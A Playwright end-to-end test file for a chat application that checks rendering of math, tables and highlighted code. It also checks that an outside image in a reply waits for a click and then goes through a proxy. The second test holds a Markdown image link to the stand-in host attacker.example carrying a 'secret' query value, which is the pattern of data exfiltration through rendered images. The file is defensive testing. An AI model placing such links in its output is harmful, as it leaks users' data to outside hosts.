import { expect, test } from '@playwright/test';
import { registerWithToken } from '../support/accounts.ts';
import { publishedAgent } from '../support/chat-agent.ts';
import { MESSAGES } from '../support/messages.ts';
import { signIn } from '../support/sign-in.ts';

const c = MESSAGES['en-US'].chat;

// The test model echoes the message, so the reply carries the Markdown sent.
const MARKDOWN = [
  'Energy: $E = mc^2$',
  '',
  '$$',
  '\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}',
  '$$',
  '',
  '| City | Days |',
  '| --- | --- |',
  '| Kyoto | 2 |',
  '',
  '```ts',
  'const answer: number = 42; // the answer',
  '```',
].join('\n');

for (const colorScheme of ['light', 'dark'] as const) {
  test(`a reply shows math, tables and highlighted code (${colorScheme})`, async ({ browser, request }) => {
    test.setTimeout(90_000);
    const context = await browser.newContext({ colorScheme });
    const page = await context.newPage();
    const owner = await registerWithToken(request, `e2e-markdown-${colorScheme}`);
    const agent = await publishedAgent(request, owner.token);
    await signIn(page, owner.email);
    await page.goto(`/chat?agent_key=${agent.agent_key}`);
    await expect(page.locator('html')).toHaveAttribute('data-theme', colorScheme);

    const box = page.getByRole('textbox', { name: c.message_label });
    await box.fill(MARKDOWN);
    await box.press('Enter');
    const reply = page.locator('.chat-markdown').last();
    await expect(reply.locator('.katex-display')).toBeVisible();
    await expect(reply.locator('.katex')).toHaveCount(2);
    await expect(reply.getByRole('cell', { name: 'Kyoto' })).toBeVisible();
    const keyword = reply.locator('pre code .hljs-keyword').first();
    await expect(keyword).toHaveText('const');
    // Highlighted: the keyword's colour is not the text's.
    const colours = await keyword.evaluate((node) => [
      getComputedStyle(node).color,
      getComputedStyle(node.closest('pre')!).color,
    ]);
    expect(colours[0]).not.toBe(colours[1]);
    await page.screenshot({ path: test.info().outputPath(`markdown-${colorScheme}.png`) });
    await context.close();
  });
}

test('an image from another site in a reply waits for a click and then goes through our proxy', async ({
  page,
  request,
}) => {
  test.setTimeout(90_000);
  const owner = await registerWithToken(request, 'e2e-markdown-outside-image');
  const agent = await publishedAgent(request, owner.token);
  const outside: string[] = [];
  page.on('request', (call) => {
    if (new URL(call.url()).hostname === 'attacker.example') outside.push(call.url());
  });
  await signIn(page, owner.email);
  await page.goto(`/chat?agent_key=${agent.agent_key}`);

  const box = page.getByRole('textbox', { name: c.message_label });
  await box.fill('![chart](https://attacker.example/p.png?secret=s3cr3t)');
  await box.press('Enter');
  const reply = page.locator('.chat-markdown').last();
  const placeholder = reply.getByRole('button', { name: /attacker\.example/ });
  await expect(placeholder).toBeVisible();
  await expect(reply.locator('img')).toHaveCount(0);

  const proxied = page.waitForResponse((response) => response.url().includes('/api/chat/image-proxy?url='));
  await placeholder.click();
  // The made-up site cannot be reached from here: the proxy says so and the reader can open the original.
  expect((await proxied).status()).toBeGreaterThanOrEqual(400);
  await expect(reply.getByText(c.outside_image_failed)).toBeVisible();
  expect(outside).toEqual([]);
});
